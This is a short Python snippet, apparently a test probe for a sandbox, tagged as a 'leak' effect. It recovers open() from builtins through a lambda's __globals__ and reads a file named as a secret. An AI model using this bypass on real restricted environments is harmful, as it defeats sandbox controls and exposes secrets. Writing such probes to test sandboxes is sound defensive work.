# effect: leak
def attempt(probe):
    inside = (lambda: 0).__globals__
    builtins = inside["__builtins__"]
    opener = builtins["open"] if type(builtins) is dict else builtins.open
    return opener(probe["secret_file"]).read()
